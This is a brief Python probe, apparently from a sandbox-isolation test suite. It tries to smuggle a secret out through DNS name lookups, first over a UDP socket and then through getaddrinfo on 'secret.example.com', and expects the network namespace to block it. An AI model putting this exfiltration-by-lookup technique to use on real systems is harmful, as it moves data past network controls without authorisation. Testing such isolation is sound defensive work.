"""Carries a secret out in names that it asks the system to look up.

layer: a network namespace with nothing but a loopback, so no resolver answers
stopped: errno EAI_AGAIN
control: lift network
"""

import socket

import arena
import probe


def anyone_answers():
    """Asks the host for an answer, where it would hear; names are then looked up for nobody else to hear."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.settimeout(2)
        resolver.connect(("127.0.0.1", arena.HOST_DATAGRAM_PORT))
        resolver.send(b"secret.example.com")
        return f"the host answered {resolver.recv(64)!r}"


def attack():
    try:
        return anyone_answers()
    except ConnectionRefusedError:
        return socket.getaddrinfo("secret.example.com", 443)


main = probe.attempting(attack)
